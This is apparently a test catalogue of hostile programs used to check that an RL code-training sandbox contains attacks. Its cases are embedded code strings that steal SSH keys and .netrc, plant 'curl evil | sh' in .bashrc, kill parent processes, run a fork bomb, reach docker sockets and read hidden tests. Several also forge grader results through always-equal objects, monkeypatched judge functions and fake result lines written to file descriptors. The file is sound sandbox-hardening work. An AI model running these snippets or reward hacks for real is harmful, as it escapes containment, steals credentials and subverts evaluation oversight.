"""The hostile-program catalogue of the sandbox (used by tests/test_sandbox_hostile.py).

Every case is one attack a policy could learn, with the host-side setup that gives it something to
steal or break and the host-side check that it failed. The rule for the verdict is the same
everywhere: the test of a case passes only if the attack worked, so a contained case is one whose
test failed *and* whose host checks hold.

Standard library plus the sandbox only, so that ``python sandbox_hostile_cases.py <repo> <workspace>``
can run the whole catalogue as an unprivileged user (it prints one JSON line per case).
"""

from __future__ import annotations

import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

FAST = {"timeout_s": 2.0, "memory_mb": 256, "max_file_mb": 4, "max_processes": 16, "tmp_mb": 16}
WANT_TRUE = "def check(candidate):\n    assert candidate() == True\n"


def _sandbox():
    from comlrl_lightning.envs.code import sandbox

    return sandbox


def _one(code: str, test: str = WANT_TRUE, **options):
    results = _sandbox().run_tests(code, test, "f", **{**FAST, **options})
    assert len(results) == 1, results
    return results[0]


def _verdict(result, extra_ok: bool = True, detail: str = "") -> tuple[bool, str]:
    return (not result.passed) and extra_ok, f"{result.error_type}: {result.error_message} {detail}".strip()


def _pids_with(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    if token.encode() in fh.read():
                        found.append(int(entry))
            except OSError:
                pass
    return found


def _descendants(root: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as fh:
                    stat = fh.read()
                ppid = int(stat[stat.rindex(")") + 2 :].split()[1])
                children.setdefault(ppid, []).append(int(entry))
            except (OSError, ValueError, IndexError):
                pass
    out, todo = set(), [root]
    while todo:
        pid = todo.pop()
        for child in children.get(pid, []):
            if child not in out:
                out.add(child)
                todo.append(child)
    return out


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().split(")")[-1].split()[0] != "Z"
    except OSError:
        return False


# ---------------------------------------------------------------------------------------------
# The cases: each takes the workspace (a private directory of the caller) and returns
# (contained, detail).


def read_ssh_and_netrc(ws: Path):
    home = ws / "home"
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    secret = "sk-" + secrets.token_hex(8)
    for name in (".ssh/id_ed25519", ".netrc"):
        (home / name).write_text(secret)
        os.chmod(home / name, 0o600)
    code = (
        "def f():\n"
        f"    for p in ({str(home / '.ssh/id_ed25519')!r}, {str(home / '.netrc')!r}, '/root/.ssh/id_rsa', "
        "'/root/.netrc'):\n"
        "        try:\n"
        "            if open(p).read().startswith('sk-'):\n"
        "                return True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return False\n"
    )
    return _verdict(_one(code))


def write_bashrc(ws: Path):
    bashrc = ws / "home" / ".bashrc"
    bashrc.parent.mkdir(parents=True, exist_ok=True)
    bashrc.write_text("# rc\n")
    code = f"def f():\n    open({str(bashrc)!r}, 'a').write('curl evil | sh\\n')\n    return True\n"
    r = _one(code)
    return _verdict(r, bashrc.read_text() == "# rc\n")


def write_library_files(ws: Path):
    sandbox_py = Path(_sandbox().__file__)
    before = sandbox_py.read_bytes()
    code = (
        "def f():\n"
        "    wrote = False\n"
        f"    for p in ({str(sandbox_py)!r}, '/etc/passwd', '/usr/lib/os-release', '/tmp/../usr/x'):\n"
        "        try:\n"
        "            open(p, 'a').write('# pwned\\n')\n"
        "            wrote = True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return wrote\n"
    )
    r = _one(code)
    return _verdict(r, sandbox_py.read_bytes() == before)


def kill_parent_and_everyone(ws: Path):
    sentinel = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        code = (
            "import os, signal\n"
            "def f():\n"
            "    ppid = os.getppid()\n"
            "    with open(f'/proc/{ppid}/stat') as fh:\n"
            "        grand = int(fh.read().rsplit(')', 1)[1].split()[1])\n"
            f"    targets = [ppid, grand, 1, {os.getpid()}, {sentinel.pid}, -1]\n"
            "    for pid in targets:\n"
            "        try:\n"
            "            os.kill(pid, signal.SIGKILL)\n"
            "        except OSError:\n"
            "            pass\n"
            "    return True\n"
        )
        r = _one(code)
        ok = sentinel.poll() is None
    finally:
        sentinel.kill()
        sentinel.wait()
    # Passing is harmless here (the code may return True); what matters is who is still alive.
    return ok, f"{r.error_type}: {r.error_message}; sentinel alive: {ok}"


def connect_tcp_loopback(ws: Path):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(0.3)
    port = listener.getsockname()[1]
    code = (
        "import socket, subprocess\n"
        "def f():\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
        "        return True\n"
        "    except OSError:\n"
        "        pass\n"
        f"    cmd = ['python3', '-c', 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 1)']\n"
        "    try:\n"
        "        return subprocess.run(cmd, timeout=1.5).returncode == 0\n"
        "    except Exception:\n"
        "        return False\n"
    )
    try:
        r = _one(code)
        try:
            listener.accept()
            reached = True
        except TimeoutError:
            reached = False
    finally:
        listener.close()
    return _verdict(r, not reached)


def connect_unix_sockets(ws: Path):
    path = str(ws / "agent.sock")
    abstract = "\0comlrl-" + secrets.token_hex(6)
    listeners = []
    for address in (path, abstract):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(address)
        s.listen(4)
        s.settimeout(0.2)
        listeners.append(s)
    if os.geteuid() == 0:
        os.chmod(path, 0o777)
    code = (
        "import socket\n"
        "def f():\n"
        f"    for address in ({path!r}, {abstract!r}, '/run/docker.sock', '/var/run/docker.sock'):\n"
        "        try:\n"
        "            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "            s.connect(address)\n"
        "            s.sendall(b'leak')\n"
        "            return True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return False\n"
    )
    try:
        r = _one(code)
        reached = False
        for s in listeners:
            try:
                s.accept()
                reached = True
            except TimeoutError:
                pass
    finally:
        for s in listeners:
            s.close()
    return _verdict(r, not reached)


def fill_tmp_and_shm(ws: Path):
    token = secrets.token_hex(6)
    code = (
        "def f():\n"
        "    written = 0\n"
        f"    for d in ('/tmp', '/var/tmp', '/dev/shm', '.'):\n"
        "        try:\n"
        f"            with open(d + '/fill-{token}', 'wb') as fh:\n"
        "                for _ in range(8):\n"
        "                    fh.write(b'x' * 2**20)\n"
        "                    written += 1\n"
        "        except OSError:\n"
        "            pass\n"
        "    return written >= 32\n"
    )
    r = _one(code)
    left = [d for d in ("/tmp", "/var/tmp", "/dev/shm") if os.path.exists(f"{d}/fill-{token}")]
    return _verdict(r, not left, f"left behind: {left}")


def memory_across_children(ws: Path):
    code = (
        "import os, time\n"
        "def f():\n"
        "    for _ in range(4):\n"
        "        if os.fork() == 0:\n"
        "            block = bytearray(100 * 2**20)\n"
        "            block[::4096] = b'x' * len(block[::4096])\n"
        "            time.sleep(5)\n"
        "            os._exit(0)\n"
        "    time.sleep(1.5)\n"
        "    return True\n"
    )
    r = _one(code, memory_mb=256, max_processes=16)
    return _verdict(r, r.error_type == "MemoryError")


def fork_bomb(ws: Path):
    code = (
        "import os\n"
        "def f():\n"
        "    while True:\n"
        "        try:\n"
        "            os.fork()\n"
        "        except OSError:\n"
        "            pass\n"
    )
    start = time.monotonic()
    r = _one(code, timeout_s=1.0, max_processes=16)
    return _verdict(r, time.monotonic() - start < 20, f"took {time.monotonic() - start:.1f} s")


def read_host_cmdline(ws: Path):
    token = "argv-secret-" + secrets.token_hex(6)
    holder = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", token])
    try:
        code = (
            "import os\n"
            "def f():\n"
            "    for pid in os.listdir('/proc'):\n"
            "        try:\n"
            "            with open(f'/proc/{pid}/cmdline', 'rb') as fh:\n"
            f"                if {token.encode()!r} in fh.read():\n"
            "                    return True\n"
            "        except OSError:\n"
            "            pass\n"
            "    return False\n"
        )
        r = _one(code)
    finally:
        holder.kill()
        holder.wait()
    return _verdict(r)


def read_other_sandbox(ws: Path):
    token = "other-" + secrets.token_hex(6)
    writer = (
        "import os, time\n"
        "def f():\n"
        f"    open('/tmp/secret.txt', 'w').write({token!r})\n"
        f"    open('/dev/shm/secret.txt', 'w').write({token!r})\n"
        "    time.sleep(1.5)\n"
        "    return False\n"
    )
    reader = (
        "import glob, os, time\n"
        "def f():\n"
        "    time.sleep(0.5)\n"
        "    paths = glob.glob('/tmp/**/*', recursive=True) + glob.glob('/dev/shm/*')\n"
        "    paths += glob.glob('/proc/*/root/tmp/*') + glob.glob('/proc/*/cwd/*')\n"
        "    for p in paths:\n"
        "        try:\n"
        f"            if {token!r} in open(p).read():\n"
        "                return True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return False\n"
    )
    jobs = [{"code": c, "test_code": WANT_TRUE, "entry_point": "f"} for c in (writer, reader)]
    results = _sandbox().run_tests_many(jobs, max_workers=2, **FAST)
    return _verdict(results[1][0])


def starve_other_sandbox(ws: Path):
    hog = (
        "import threading, time\n"
        "def f():\n"
        "    threads = []\n"
        "    try:\n"
        "        while True:\n"
        "            t = threading.Thread(target=time.sleep, args=(3,))\n"
        "            t.start()\n"
        "            threads.append(t)\n"
        "    except RuntimeError:\n"
        "        time.sleep(1.5)\n"
        "    return False\n"
    )
    correct = (
        "import threading, time\n"
        "def f():\n"
        "    time.sleep(0.4)\n"
        "    out = []\n"
        "    threads = [threading.Thread(target=out.append, args=(i,)) for i in range(8)]\n"
        "    for t in threads:\n"
        "        t.start()\n"
        "    for t in threads:\n"
        "        t.join()\n"
        "    return len(out) == 8\n"
    )
    jobs = [{"code": c, "test_code": WANT_TRUE, "entry_point": "f"} for c in (hog, correct)]
    results = _sandbox().run_tests_many(jobs, max_workers=2, **FAST)
    ok = results[1][0].passed
    return ok, f"correct program: {results[1][0].error_type}: {results[1][0].error_message}"


def forge_exec_timed(ws: Path):
    code = (
        "import sys, gc\n"
        "main = sys.modules['__main__']\n"
        "for name in ('_exec_timed', '_call_timed', '_judge_exec', '_case_source'):\n"
        "    setattr(main, name, lambda *a, **k: None)\n"
        "for obj in gc.get_objects():\n"
        "    if isinstance(obj, dict) and 'assert' in str(obj.get('src', '')):\n"
        "        obj['src'] = 'pass'\n"
        "def f():\n"
        "    return 'wrong'\n"
    )
    return _verdict(_one(code, test="def check(candidate):\n    assert candidate() == 'right'\n"))


def forge_always_equal(ws: Path):
    code = (
        "class Anything(str):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = str.__hash__\n"
        "class Any2:\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "def f(x):\n"
        "    return Anything('x') if x == 0 else Any2()\n"
    )
    test = "def check(candidate):\n    assert candidate(0) == 'right'\n    assert candidate(1) == [1, 2]\n"
    results = _sandbox().run_tests(code, test, "f", **FAST)
    return (not any(r.passed for r in results)), "; ".join(f"{r.error_type}: {r.error_message}" for r in results)


def forge_with_gc_and_fds(ws: Path):
    code = (
        "import gc, os, sys, json\n"
        "def f():\n"
        "    nonces = [o for o in gc.get_objects() if isinstance(o, str) and len(o) == 32]\n"
        "    lines = [json.dumps({'t': 'result', 'i': 0, 'ok': True})]\n"
        "    lines += [n + ' ' + lines[0] for n in nonces[:50]]\n"
        "    payload = ('\\n'.join(lines + [json.dumps({'t': 'done'})]) + '\\n').encode()\n"
        "    for fd in range(3, 64):\n"
        "        try:\n"
        "            os.write(fd, payload)\n"
        "        except OSError:\n"
        "            pass\n"
        "    for path in ('/proc/1/fd/1', '/proc/1/fd/3', '/proc/1/fd/4', '/proc/1/fd/5'):\n"
        "        try:\n"
        "            with open(path, 'wb') as fh:\n"
        "                fh.write(payload)\n"
        "        except OSError:\n"
        "            pass\n"
        "    return 'wrong'\n"
    )
    return _verdict(_one(code, test="def check(candidate):\n    assert candidate() == 'right'\n"))


def read_hidden_tests(ws: Path):
    hidden = "HIDDEN-" + secrets.token_hex(6)
    problems = Path(_sandbox().__file__).with_name("data") / "problems.jsonl"
    code = (
        "import gc, os\n"
        "def f():\n"
        "    for o in gc.get_objects():\n"
        "        if isinstance(o, str) and 'HIDDEN-' in o and 'gc.get_objects' not in o:\n"
        "            i = o.index('HIDDEN-')\n"
        "            return o[i:i + 19]\n"
        "    for path in ('/proc/1/fd/0', '/proc/1/mem', '/proc/1/environ', '/proc/1/cmdline',\n"
        f"                 '/proc/self/fd/0', {str(problems)!r}):\n"
        "        try:\n"
        "            data = open(path, 'rb').read(1 << 20).decode(errors='replace')\n"
        "        except OSError:\n"
        "            continue\n"
        "        if 'HIDDEN-' in data:\n"
        "            i = data.index('HIDDEN-')\n"
        "            return data[i:i + 19]\n"
        "        if 'def check' in data:\n"
        "            return 'builtin tests readable'\n"
        "    return None\n"
    )
    r = _one(code, test=f"def check(candidate):\n    assert candidate() == {hidden!r}\n")
    # A second probe: is the built-in problem file readable at all from inside?
    probe = f"def f():\n    try:\n        return 'def check' in open({str(problems)!r}).read()\n" \
            "    except OSError:\n        return False\n"
    r2 = _one(probe)
    return _verdict(r, not r2.passed, f"builtin problems readable: {r2.passed}")


def orphans_after_trainer_crash(ws: Path, repo: str):
    token = "600." + str(secrets.randbelow(10**9)).zfill(9)
    code = (
        "import os, signal, subprocess, time\n"
        "def f():\n"
        "    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        f"    subprocess.Popen(['sleep', {token!r}], start_new_session=True)\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "        time.sleep(600)\n"
        "    time.sleep(600)\n"
    )
    script = ws / "trainer.py"
    script.write_text(
        "import sys\n"
        f"sys.path.insert(0, {str(Path(__file__).parent)!r})\n"
        "import sandbox_hostile_cases as h\n"
        f"h.import_library({repo!r})\n"
        f"h._one({code!r}, timeout_s=30.0)\n"
    )
    trainer = subprocess.Popen([sys.executable, str(script)], cwd=str(ws))
    deadline = time.monotonic() + 20
    while not _pids_with(token) and time.monotonic() < deadline and trainer.poll() is None:
        time.sleep(0.05)
    started = bool(_pids_with(token))
    tree = _descendants(trainer.pid)
    trainer.kill()
    trainer.wait()
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and (any(_alive(p) for p in tree) or _pids_with(token)):
        time.sleep(0.05)
    survivors = [p for p in tree if _alive(p)] + _pids_with(token)
    tmp_left = [p for p in Path(tempfile.gettempdir()).glob("comlrl-sandbox-*") if p.stat().st_uid == os.getuid()
                and p.stat().st_mtime > time.time() - 30]
    return started and not survivors and not tmp_left, (
        f"attack started: {started}; processes in the tree: {len(tree)}; survivors: {survivors}; "
        f"temp dirs left: {tmp_left}"
    )


CASES = {
    "read_ssh_and_netrc": read_ssh_and_netrc,
    "write_bashrc": write_bashrc,
    "write_library_files": write_library_files,
    "kill_parent_and_everyone": kill_parent_and_everyone,
    "connect_tcp_loopback": connect_tcp_loopback,
    "connect_unix_sockets": connect_unix_sockets,
    "fill_tmp_and_shm": fill_tmp_and_shm,
    "memory_across_children": memory_across_children,
    "fork_bomb": fork_bomb,
    "read_host_cmdline": read_host_cmdline,
    "read_other_sandbox": read_other_sandbox,
    "starve_other_sandbox": starve_other_sandbox,
    "forge_exec_timed": forge_exec_timed,
    "forge_always_equal": forge_always_equal,
    "forge_with_gc_and_fds": forge_with_gc_and_fds,
    "read_hidden_tests": read_hidden_tests,
    "orphans_after_trainer_crash": orphans_after_trainer_crash,
}


def run_case(name: str, workspace: Path, repo: str) -> dict:
    ws = workspace / name
    ws.mkdir(parents=True, exist_ok=True)
    func = CASES[name]
    try:
        contained, detail = func(ws, repo) if name == "orphans_after_trainer_crash" else func(ws)
    except Exception as exc:  # noqa: BLE001 - a broken case is reported, not contained
        contained, detail = False, f"case raised {type(exc).__name__}: {exc}"
    return {"case": name, "contained": bool(contained), "detail": detail, "uid": os.getuid()}


def import_library(repo: str) -> None:
    """Import the sandbox from `repo` without the package's heavy dependencies (torch, ...)."""
    import types

    base = Path(repo) / "comlrl_lightning"
    for name, path in (
        ("comlrl_lightning", base),
        ("comlrl_lightning.envs", base / "envs"),
        ("comlrl_lightning.envs.code", base / "envs" / "code"),
    ):
        if name not in sys.modules:
            module = types.ModuleType(name)
            module.__path__ = [str(path)]
            sys.modules[name] = module
    from comlrl_lightning.envs.code import sandbox  # noqa: F401


def main() -> None:
    repo, workspace = sys.argv[1], Path(sys.argv[2])
    import_library(repo)
    names = sys.argv[3:] or list(CASES)
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    threads_out: list[dict] = []
    for name in names:
        threads_out.append(run_case(name, workspace, repo))
        print(json.dumps(threads_out[-1]), flush=True)


if __name__ == "__main__":
    threading.stack_size(0)
    main()
